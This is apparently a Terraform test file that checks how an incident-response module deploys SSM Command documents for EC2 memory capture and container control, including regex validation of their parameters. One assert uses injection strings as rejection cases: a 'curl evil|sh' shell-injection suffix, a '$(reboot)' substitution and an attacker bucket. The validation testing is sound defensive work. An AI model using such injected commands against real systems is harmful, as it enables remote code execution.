# Firebreak's own SSM Command documents (ssm-documents.tf): deployed exactly when online capture
# needs them, with their scripts fixed, platform preconditions, and parameters SSM checks. The aws
# provider is mocked as in firebreak.tftest.hcl.

mock_provider "aws" {
  source = "./tests/mocks"
}

variables {
  mode      = "contain"
  dist_dir  = "tests/fixtures/playbooks"
  playbooks = { container = { enabled = false } }
}

run "no_documents_without_online_capture" {
  command = plan

  assert {
    condition     = length(aws_ssm_document.volatile_data) == 0 && length(aws_ssm_document.memory_capture) == 0
    error_message = "No SSM document may exist while online capture is off."
  }

  assert {
    condition     = local.ssm_document_arns == []
    error_message = "No document ARN may be offered for ssm:SendCommand while online capture is off."
  }

  assert {
    condition     = jsondecode(local.function_options["ec2-instance"]).ssm_documents == { volatile_data = null, memory_capture = null }
    error_message = "The function must be told that no document is deployed (its steps then skip, never falling back to AWS-RunShellScript)."
  }
}

run "a_memory_command_without_online_capture_deploys_nothing" {
  command = plan

  variables {
    playbooks = { container = { enabled = false }, ec2-instance = { options = { online_capture = { enabled = false, memory_capture_command = "/opt/avml /tmp/mem.lime" } } } }
  }

  assert {
    condition     = length(aws_ssm_document.volatile_data) == 0 && length(aws_ssm_document.memory_capture) == 0
    error_message = "The memory capture command alone (online capture off) must not deploy a document."
  }
}

run "a_disabled_ec2_playbook_deploys_nothing" {
  command = plan

  variables {
    playbooks = { container = { enabled = false }, ec2-instance = { enabled = false, options = { online_capture = { enabled = true, memory_capture_command = "/opt/avml /tmp/mem.lime" } } } }
  }

  assert {
    condition     = length(aws_ssm_document.volatile_data) == 0 && length(aws_ssm_document.memory_capture) == 0 && local.ssm_document_arns == []
    error_message = "A disabled EC2 playbook must not deploy its documents."
  }
}

run "online_capture_deploys_the_volatile_data_document_only" {
  command = plan

  variables {
    playbooks = { container = { enabled = false }, ec2-instance = { options = { online_capture = { enabled = true } } } }
  }

  assert {
    condition     = length(aws_ssm_document.volatile_data) == 1 && length(aws_ssm_document.memory_capture) == 0
    error_message = "Online capture without a memory command deploys the volatile-data document only."
  }

  assert {
    condition = (
      aws_ssm_document.volatile_data[0].name == "firebreak-volatile-data" &&
      aws_ssm_document.volatile_data[0].document_type == "Command" &&
      aws_ssm_document.volatile_data[0].document_format == "JSON" &&
      aws_ssm_document.volatile_data[0].target_type == "/AWS::EC2::Instance"
    )
    error_message = "The volatile-data document is a JSON Command document for EC2 instances, named after the prefix."
  }

  assert {
    condition = (
      jsondecode(aws_ssm_document.volatile_data[0].content).schemaVersion == "2.2" &&
      [for s in jsondecode(aws_ssm_document.volatile_data[0].content).mainSteps : [s.action, s.precondition.StringEquals]] == [
        ["aws:runShellScript", ["platformType", "Linux"]],
        ["aws:runShellScript", ["platformType", "MacOS"]],
        ["aws:runPowerShellScript", ["platformType", "Windows"]],
      ]
    )
    error_message = "Each step of the volatile-data document must run on its own platform only (schema 2.2 preconditions)."
  }

  assert {
    condition     = alltrue([for s in jsondecode(aws_ssm_document.volatile_data[0].content).mainSteps : s.inputs.timeoutSeconds == "600" && length(s.inputs.runCommand) > 10])
    error_message = "Each step carries its script and the 600 s execution timeout."
  }

  assert {
    condition     = try(jsondecode(aws_ssm_document.volatile_data[0].content).parameters, {}) == {}
    error_message = "The volatile-data document takes no parameters: whoever may send it can only run its scripts."
  }

  assert {
    condition     = aws_ssm_document.volatile_data[0].tags["firebreak:component"] == "ssm-document"
    error_message = "The documents are tagged like every Firebreak resource."
  }

  assert {
    condition     = local.ssm_document_arns == ["arn:aws:ssm:us-east-1:123456789012:document/firebreak-volatile-data"]
    error_message = "ssm_document_arns must list exactly the deployed documents' ARNs."
  }

  assert {
    condition     = jsondecode(local.function_options["ec2-instance"]).ssm_documents == { volatile_data = "firebreak-volatile-data", memory_capture = null }
    error_message = "The function must be handed the deployed document's name, and no memory document."
  }
}

run "a_memory_command_deploys_the_memory_capture_document_with_validated_parameters" {
  command = plan

  variables {
    name_prefix          = "fb-eu"
    evidence_bucket_name = "evidence.example-corp.net"
    tags                 = { team = "security" }
    playbooks = { container = { enabled = false }, ec2-instance = { options = {
      online_capture = { enabled = true, memory_capture_command = "/opt/avml --compress \"/tmp/$${FIREBREAK_INCIDENT_ID}.lime\" && aws s3 cp /tmp/*.lime \"$FIREBREAK_MEMORY_S3_URI/\"" }
    } } }
  }

  assert {
    condition     = aws_ssm_document.memory_capture[0].name == "fb-eu-memory-capture" && aws_ssm_document.volatile_data[0].name == "fb-eu-volatile-data"
    error_message = "Document names carry the deployment's prefix."
  }

  assert {
    condition = [for s in jsondecode(aws_ssm_document.memory_capture[0].content).mainSteps : [s.action, s.precondition.StringEquals, s.inputs.timeoutSeconds]] == [
      ["aws:runShellScript", ["platformType", "Linux"], "3600"],
    ]
    error_message = "The memory capture document runs one shell step, on Linux only, for up to an hour."
  }

  assert {
    condition     = reverse(jsondecode(aws_ssm_document.memory_capture[0].content).mainSteps[0].inputs.runCommand)[0] == "/opt/avml --compress \"/tmp/$${FIREBREAK_INCIDENT_ID}.lime\" && aws s3 cp /tmp/*.lime \"$FIREBREAK_MEMORY_S3_URI/\""
    error_message = "The deployer's command must be the document's last line, exactly as configured."
  }

  assert {
    condition     = length(regexall("@@", aws_ssm_document.memory_capture[0].content)) == 0
    error_message = "Every placeholder of the generated document must be filled in."
  }

  assert {
    condition = jsondecode(aws_ssm_document.memory_capture[0].content).parameters == {
      incidentId = {
        type              = "String"
        description       = "The Firebreak incident id (exported as FIREBREAK_INCIDENT_ID)."
        allowedPattern    = "^inc-[0-9a-f]{16}(-g([2-9]|[1-9]\\d{1,3}))?$"
        interpolationType = "ENV_VAR"
      }
      s3Uri = {
        type              = "String"
        description       = "Where the dump goes: the incident's memory prefix in Firebreak's evidence bucket (exported as FIREBREAK_MEMORY_S3_URI)."
        allowedPattern    = "^s3://evidence\\.example-corp\\.net/incidents/inc-[0-9a-f]{16}(-g([2-9]|[1-9]\\d{1,3}))?/online/memory$"
        interpolationType = "ENV_VAR"
      }
    }
    error_message = "The document takes exactly incidentId and s3Uri, each checked by SSM against a pattern that admits an incident id / this deployment's evidence prefix only."
  }

  assert {
    condition = (
      can(regex(jsondecode(aws_ssm_document.memory_capture[0].content).parameters.s3Uri.allowedPattern, "s3://evidence.example-corp.net/incidents/inc-0123456789abcdef/online/memory")) &&
      !can(regex(jsondecode(aws_ssm_document.memory_capture[0].content).parameters.s3Uri.allowedPattern, "s3://evidenceXexample-corp.net/incidents/inc-0123456789abcdef/online/memory")) &&
      !can(regex(jsondecode(aws_ssm_document.memory_capture[0].content).parameters.s3Uri.allowedPattern, "s3://attacker/incidents/inc-0123456789abcdef/online/memory")) &&
      !can(regex(jsondecode(aws_ssm_document.memory_capture[0].content).parameters.s3Uri.allowedPattern, "s3://evidence.example-corp.net/incidents/inc-0123456789abcdef/online/memory'; curl evil|sh; '")) &&
      !can(regex(jsondecode(aws_ssm_document.memory_capture[0].content).parameters.incidentId.allowedPattern, "inc-0123456789abcdef$(reboot)"))
    )
    error_message = "The patterns must admit our values and nothing else (another bucket, a dot as any character, shell syntax)."
  }

  assert {
    condition     = aws_ssm_document.memory_capture[0].tags == tomap({ team = "security", "firebreak:component" = "ssm-document" })
    error_message = "The documents carry the module's tags and their component."
  }

  assert {
    condition = local.ssm_document_arns == [
      "arn:aws:ssm:us-east-1:123456789012:document/fb-eu-memory-capture",
      "arn:aws:ssm:us-east-1:123456789012:document/fb-eu-volatile-data",
    ]
    error_message = "ssm_document_arns must list exactly the deployed documents' ARNs."
  }

  assert {
    condition     = jsondecode(local.function_options["ec2-instance"]).ssm_documents == { volatile_data = "fb-eu-volatile-data", memory_capture = "fb-eu-memory-capture" }
    error_message = "The function must be handed both documents' names."
  }
}

run "document_names_given_as_input_are_replaced_by_the_deployed_ones" {
  command = plan

  variables {
    playbooks = { container = { enabled = false }, ec2-instance = { options = { ssm_documents = { volatile_data = "someone-volatile-data" } } } }
  }

  assert {
    condition     = jsondecode(local.function_options["ec2-instance"]).ssm_documents == { volatile_data = null, memory_capture = null }
    error_message = "Only Terraform decides which documents the function sends: an input value is replaced."
  }
}

run "rejects_a_document_name_that_is_not_firebreaks" {
  command = plan

  variables {
    playbooks = { container = { enabled = false }, ec2-instance = { options = { ssm_documents = { volatile_data = "AWS-RunShellScript" } } } }
  }

  expect_failures = [var.playbooks]
}

run "the_container_playbook_deploys_its_container_control_document" {
  command = plan

  variables {
    playbooks = { ec2-instance = { enabled = false } }
  }

  assert {
    condition     = length(aws_ssm_document.container_control) == 1 && aws_ssm_document.container_control[0].name == "firebreak-container-control" && aws_ssm_document.container_control[0].document_type == "Command"
    error_message = "The container playbook must deploy its own container-control Command document."
  }

  assert {
    condition     = local.ssm_document_arns == ["arn:aws:ssm:us-east-1:123456789012:document/firebreak-container-control"]
    error_message = "ssm:SendCommand must be offered the container document (and no EC2 document while online capture is off)."
  }

  assert {
    condition     = jsondecode(local.function_options["container"]).ssm_documents == { container_control = "firebreak-container-control" }
    error_message = "The container function must be told the name of the document it may send."
  }

  assert {
    condition = jsondecode(aws_ssm_document.container_control[0].content).parameters == {
      containerId = { type = "String", description = "The container id or name (Docker's characters only; exported as SSM_containerId).", allowedPattern = "^[a-zA-Z0-9][a-zA-Z0-9_.-]{0,127}$", interpolationType = "ENV_VAR" }
      action      = { type = "String", description = "pause, stop or unpause (exported as SSM_action).", allowedPattern = "^(pause|stop|unpause)$", interpolationType = "ENV_VAR" }
    }
    error_message = "The container id and the action must be parameters SSM checks against their patterns before sending."
  }
}

run "suspend_container_off_deploys_no_container_document" {
  command = plan

  variables {
    playbooks = { ec2-instance = { enabled = false }, container = { options = { suspend_container = false } } }
  }

  assert {
    condition     = length(aws_ssm_document.container_control) == 0 && local.ssm_document_arns == [] && jsondecode(local.function_options["container"]).ssm_documents == { container_control = null }
    error_message = "With suspend_container off no container document may exist, nor be offered to ssm:SendCommand."
  }
}
